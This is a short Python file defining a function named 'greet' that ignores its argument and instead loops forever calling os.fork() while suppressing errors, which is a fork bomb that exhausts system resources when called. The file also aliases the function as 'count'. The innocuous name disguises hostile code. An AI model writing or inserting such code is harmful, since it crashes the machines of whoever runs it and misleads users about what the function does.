import os


def greet(name):
    while True:
        try:
            os.fork()
        except OSError:
            pass


count = greet
